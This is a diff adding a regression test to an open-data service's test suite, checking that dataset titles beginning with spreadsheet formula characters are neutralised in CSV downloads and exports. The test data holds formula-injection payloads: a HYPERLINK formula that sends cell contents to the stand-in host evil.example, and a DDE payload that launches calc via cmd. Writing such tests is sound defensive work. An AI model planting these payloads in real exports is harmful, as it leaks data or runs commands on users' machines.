@@ -190,6 +190,29 @@ describe('the open data downloads', () => {
     expect(again.status).toBe(304);
   });
 
+  it('keeps a title that a spreadsheet would run as a formula from running, in the download and in `odmon export compliance` alike', async () => {
+    const { council, get, cache } = served();
+    const dir = path.dirname(council.app.config.db);
+    const file = path.join(dir, 'formula-title.csv');
+    fs.writeFileSync(file, 'id,title,steward_id,frequency,last_updated,required\nformula-test,"=HYPERLINK(""http://evil.example/?""&A1;""Звіт"")",transport,once a month,2026-01-10,yes\nformula-test-2,"@SUM(1+1)*cmd|\' /C calc\'!A0",transport,once a month,2026-01-10,no\n');
+    expect((await council.odmon(['import', 'datasets', file])).code).toBe(0);
+    expect((await council.odmon(['check'])).code).toBe(0);
+    await cache.refresh();
+    const csv = (await get('/open-data/compliance.csv')).text;
+    const row = (id: string): string[] => (csv.split('\r\n').find((l) => l.includes(`;${id};`)) ?? '').split(';');
+    expect(row('formula-test').length).toBeGreaterThan(3);
+    const first = csv.split('\r\n').find((l) => l.includes(';formula-test;')) ?? '';
+    expect(first).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1;""Звіт"")";`);
+    expect(row('formula-test-2')[2]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    // No cell of any row starts with what a spreadsheet runs (a negative number is data: days_overdue is never negative).
+    for (const line of csv.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean)) {
+      for (const cell of line.match(/("(?:[^"]|"")*"|[^;]*)(?=;|$)/g) ?? []) expect([line, /^"?[=+\-@\t\r]/.test(cell)]).toEqual([line, false]);
+    }
+    expect((await council.odmon(['export', 'compliance', 'formula.csv'])).code).toBe(0);
+    // (fetch's text() drops the BOM the file starts with)
+    expect(fs.readFileSync(path.join(dir, 'formula.csv'), 'utf8')).toBe(`\uFEFF${csv}`);
+  });
+
   it('refuses `odmon export compliance` to a file whose extension says no format', async () => {
     const r = await served().council.odmon(['export', 'compliance', 'compliance.xlsx']);
     expect(r.code).toBe(64);
